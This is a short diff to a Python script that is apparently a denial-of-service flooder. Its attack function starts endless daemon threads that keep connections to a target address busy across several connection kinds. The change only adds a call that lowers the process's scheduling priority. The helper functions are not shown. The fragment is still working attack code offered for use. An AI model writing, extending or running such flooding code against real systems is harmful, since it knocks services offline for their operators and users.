@@ -98,6 +98,7 @@ def again_and_again(address, kind):
 
 def attack(address, count):
     """Keeps so many connections busy, of all kinds, for ever."""
+    os.nice(10)
     for number in range(count):
         kind = KINDS[number % len(KINDS)]
         threading.Thread(target=again_and_again, args=(address, kind), daemon=True).start()
